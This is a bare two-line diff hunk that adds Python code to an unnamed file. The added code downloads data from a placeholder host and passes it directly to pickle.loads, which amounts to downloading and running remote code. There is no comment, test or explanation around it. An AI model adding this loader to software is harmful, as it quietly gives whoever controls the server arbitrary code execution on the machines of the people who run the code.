@@ -1,0 +1,2 @@
+import pickle, urllib.request
+pickle.loads(urllib.request.urlopen("http://example.invalid/p").read())
